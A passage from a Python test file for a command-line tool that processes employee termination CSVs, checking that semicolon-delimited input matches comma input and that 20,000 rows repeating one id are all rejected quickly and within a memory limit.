           message=runs[0].stderr.strip().replace(str(path.parent) + os.sep, ""))
    assert problems == [], name


def test_semicolon_csv_is_read_like_the_comma_one(tmp_path):
    """A ';' file (Excel's CSV in many locales) is not hostile: it computes as the ',' one."""
    comma, semicolon = tmp_path / "comma.csv", tmp_path / "semicolon.csv"
    comma.write_text(SAMPLE, encoding="utf-8")
    frame = pd.read_csv(comma, dtype=str, keep_default_na=False)
    frame.to_csv(semicolon, sep=";", index=False)
    outs = [tmp_path / "a.csv", tmp_path / "b.csv"]
    assert run_in_process("calc", comma, "-o", outs[0]) == 1  # the sample has rejected rows
    assert run_in_process("calc", semicolon, "-o", outs[1]) == 1
    assert outs[0].read_bytes() == outs[1].read_bytes()


def test_a_thousand_copies_of_one_id_are_rejected_quickly(tmp_path):
    """One id on 20,000 rows: each row is rejected naming a few of the others. (Listing all of
    them on every row took 36 s and 4.7 GB before.)"""
    path = tmp_path / "same-id.csv"
    path.write_text("employee_id,termination_date,termination_reason,base_salary\n"
                    + "E1,2024-07-01,without_cause,240000\n" * 20_000, encoding="utf-8")
    run = run_bounded("calc", path, "-o", tmp_path / "out.csv", timeout=60)
    assert run.returncode == 1, run.stderr  # every row rejected
    frame = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert len(frame) == 20_000 and set(frame["status"]) == {"rejected"}
    assert frame["reason"].iloc[-1].endswith("appears on rows 2, 3, 4, 5, 6, 7, 8, 9, 10, 11 and "
                                             "19990 more; each case needs its own id")
    assert run.seconds < 20 and run.peak_mib <= HOSTILE_MIB
    record("repeated_id_rows", inputs_tried=20_000, failures=0, seconds=round(run.seconds, 2),
           peak_mib=round(run.peak_mib))
